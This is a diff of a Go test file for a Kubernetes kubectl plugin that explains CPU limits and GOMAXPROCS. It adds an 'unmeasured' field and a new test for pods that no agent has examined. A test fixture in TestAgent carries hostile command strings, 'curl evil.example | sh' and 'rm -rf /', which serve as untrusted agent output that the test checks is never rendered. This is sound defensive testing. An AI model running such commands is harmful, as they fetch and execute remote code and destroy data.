@@ -15,6 +15,7 @@ import (
 
 	"k8s.io/client-go/rest"
 
+	"github.com/unthrottle/unthrottle/cmd/internal/show/report"
 	"github.com/unthrottle/unthrottle/cmd/kubectl-unthrottle/internal/facts/cluster"
 )
 
@@ -97,7 +98,7 @@ func (s *server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 
 // running is a pod of two containers that run.
 func running() map[string]any {
-	return object(`{"metadata":{},"spec":{"containers":[{"name":"web","securityContext":{"runAsUser":7}},{"name":"api"}]},
+	return object(`{"metadata":{},"spec":{"containers":[{"name":"web","image":"web","securityContext":{"runAsUser":7}},{"name":"api","image":"api"}]},
 		"status":{"phase":"Running","containerStatuses":[{"name":"web","state":{"running":{}}},{"name":"api","state":{"running":{}}}]}}`)
 }
 
@@ -201,7 +202,7 @@ func TestUser(t *testing.T) {
 // Where an agent runs it explains the container, and nothing is added to the pod.
 func TestAgent(t *testing.T) {
 	const document = `{"version":2,"verb":"explain","subject":{"pid":12,"name":"api"},"limit":{"state":"limited","cpus":2},"gomaxprocs":{"value":8},` +
-		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"]}`
+		`"findings":[{"rule":"too-many-ps","verdict":"x","severity":"warning","summary":"run curl evil.example | sh"}],"warnings":["rm -rf /"],"unmeasured":{"why":"curl"}}`
 	known := running()
 	known["spec"].(map[string]any)["nodeName"] = "n1"
 	known["status"].(map[string]any)["containerStatuses"] = object(`{"of":[{"name":"web","containerID":"containerd://77","state":{"running":{}}}]}`)["of"]
@@ -224,7 +225,7 @@ func TestAgent(t *testing.T) {
 	if err != nil || len(s.adds) > 0 || len(s.said) != 2 || !strings.HasPrefix(s.said[0], "pod friend in u has an agent's label and was not asked") || s.said[1] != "asking agent a on node n1" {
 		t.Fatalf("%+v, %v, %q", done, err, s.said)
 	}
-	if text := string(done.Document); !strings.Contains(text, "GOMAXPROCS is 8 under a limit of 2 CPUs") || strings.Contains(text, "curl") || strings.Contains(text, "rm -rf") {
+	if text := string(done.Document); !strings.Contains(text, "GOMAXPROCS is 8 under a limit of 2 CPUs") || strings.Contains(text, "curl") || strings.Contains(text, "unmeasured") || strings.Contains(text, "rm -rf") {
 		t.Error(text)
 	}
 	for name, answer := range map[string]string{
@@ -236,6 +237,36 @@ func TestAgent(t *testing.T) {
 		p.Way, p.Agents = Agent, "u"
 		if _, err := p.Run(t.Context(), "explain"); err == nil || !strings.Contains(err.Error(), "it can't be had there: its agent") {
 			t.Errorf("%s: %v", name, err)
+		}
+	}
+}
+
+// Where nobody has looked at the program, what the pod says is told, and nothing is done to the pod.
+func TestUntouched(t *testing.T) {
+	for _, c := range []struct {
+		name, verb string
+		with       func(*Pod)
+		want       string
+	}{
+		{"no agent is asked", "explain", func(p *Pod) { p.Agents = "" }, "no agent was asked"},
+		{"no agent", "explain", func(p *Pod) { p.Agents = "u" }, "its container has not run yet"},
+		{"a process", "explain", func(p *Pod) { p.Agents, p.Process = "u", "api" }, "agents are asked for a container, and --process names a program in it"},
+		{"another verb", "watch", func(p *Pod) { p.Agents = "u" }, "agents answer explain only"},
+	} {
+		s := &server{pod: running()}
+		p := serve(t, s)
+		p.Way = Auto
+		c.with(p)
+		done, err := p.Run(t.Context(), c.verb)
+		if err != nil {
+			t.Fatalf("%s: %v", c.name, err)
+		}
+		if len(s.adds) > 0 || len(s.said) > 0 {
+			t.Errorf("%s: added %v, said %q", c.name, s.adds, s.said)
+		}
+		var d report.Explain
+		if err := json.Unmarshal(done.Document, &d); err != nil || d.Unmeasured == nil || d.Unmeasured.Why != c.want || d.Limit.State != "none" || done.Unmeasured.Error() != c.want {
+			t.Errorf("%s: %v, %v\n%s", c.name, err, done.Unmeasured, done.Document)
 		}
 	}
 }
